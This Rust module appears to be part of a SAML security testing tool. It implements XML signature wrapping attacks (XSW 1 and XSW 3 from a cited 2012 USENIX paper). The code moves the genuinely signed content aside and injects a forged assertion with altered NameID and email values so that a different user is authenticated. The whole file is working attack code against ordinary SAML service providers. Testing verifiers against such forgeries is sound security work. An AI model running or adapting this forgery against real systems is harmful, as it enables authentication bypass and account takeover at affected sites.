//! Signature wrapping: the signature stays valid, what it covers moves aside, and a forged assertion takes its place.
//! (Somorovsky et al., "On Breaking SAML", USENIX Security 2012: XSW 1 and 3.)

use crate::sign::insert_after_issuer;
use crate::signing::Signing;
use crate::statement::Statement;

/// Makes a forgery of `response`, which says `statement` and is signed as `signing` says.
pub fn forge(response: &str, statement: &Statement, signing: Signing) -> String {
    let forged = forged(statement);
    if signing.has_response() {
        // XSW 1: a new response around the genuine one, which hides in an object of its own signature.
        return around(response, &forged);
    }
    // XSW 3: the forged assertion comes before the signed one, which may be encrypted.
    let tags = ["<saml:EncryptedAssertion ", "<saml:Assertion "];
    let genuine = tags.into_iter().find(|tag| response.contains(tag)).unwrap_or_default();
    response.replacen(genuine, &format!("{}{genuine}", forged.assertion()), 1)
}

/// Puts `forged.` before the address, so that another person signs in.
pub fn forged(statement: &Statement) -> Statement {
    let mut forged = statement.clone();
    forged.response_id.push_str("forged");
    forged.assertion_id.push_str("forged");
    forged.name_id = format!("forged.{}", statement.name_id);
    for attribute in forged.attributes.iter_mut().filter(|attribute| attribute.name == "email") {
        for value in &mut attribute.values {
            *value = format!("forged.{value}");
        }
    }
    forged
}

fn around(response: &str, forged: &Statement) -> String {
    let (signature, without) = cut_signature(response);
    let object = format!("<ds:Object>{without}</ds:Object></ds:Signature>");
    let signature = signature.replacen("</ds:Signature>", &object, 1);
    insert_after_issuer(&forged.response(&forged.assertion()), &signature)
}

/// Returns the first signature of `xml`, and `xml` without it.
pub fn cut_signature(xml: &str) -> (String, String) {
    const END: &str = "</ds:Signature>";
    let Some((before, rest)) = xml.split_once("<ds:Signature ") else {
        return (String::new(), xml.to_owned());
    };
    let (signature, after) = rest.split_once(END).unwrap_or((rest, ""));
    (format!("<ds:Signature {signature}{END}"), format!("{before}{after}"))
}
